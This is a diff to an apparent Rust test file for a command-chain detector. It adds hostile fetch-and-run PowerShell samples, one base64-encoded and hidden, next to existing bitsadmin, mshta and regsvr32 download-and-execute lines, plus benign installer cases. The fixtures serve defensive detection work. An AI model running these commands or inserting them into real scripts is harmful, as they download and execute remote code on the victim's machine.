@@ -292,6 +292,14 @@ fn a_script_that_hides_its_means_is_followed() {
             "bitsadmin /transfer f http://203.0.113.65/f.dll \"f.dll\"\nrundll32 \"f.dll\",Init",
             Rule::FetchRun,
         ),
+        (
+            "powershell -w hidden -nop -e SQBFAFgAKABJAFcAUgAgAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgAxADIAMgAvAGMAbAAuAHAAcwAxACAALQBVAHMAZQBCAGEAcwBpAGMAUABhAHIAcwBpAG4AZwApAC4AQwBvAG4AdABlAG4AdAA=",
+            Rule::FetchRun,
+        ),
+        (
+            "powershell.exe -NoProfile -ExecutionPolicy Bypass -Command \"iwr http://203.0.113.9/x.ps1 | iex\"",
+            Rule::FetchRun,
+        ),
         ("mshta http://203.0.113.65/a.hta", Rule::FetchRun),
         ("regsvr32 /s /n /u /i:http://203.0.113.65/a.sct scrobj.dll", Rule::FetchRun),
     ] {
@@ -350,6 +358,8 @@ fn honest_installers_schedules_and_clean_ups_are_no_chain() {
         "curl -fsSLo server https://dl.vendor.example/server\nchmod +x server\nnohup ./server >/dev/null 2>&1 &",
         "curl -fsSLo i.sh https://dl.vendor.example/i.sh\n(sh i.sh) >/dev/null 2>&1 &",
         "DIR=\ncurl -fsS https://api.vendor.example && rm -rf \"$DIR\"",
+        "powershell -NoProfile -EncodedCommand RwBlAHQALQBTAGUAcgB2AGkAYwBlACAAfAAgAEYAbwByAG0AYQB0AC0AVABhAGIAbABlAA==",
+        "powershell -ExecutionPolicy Bypass -File build.ps1",
         "curl -s https://github.com/someone.keys >> ~/.ssh/authorized_keys",
         "cat ~/.ssh/id_ed25519.pub >> ~/.ssh/authorized_keys",
         "for f in a b c; do curl -fsS https://dl.vendor.example/$f -o $f; done",
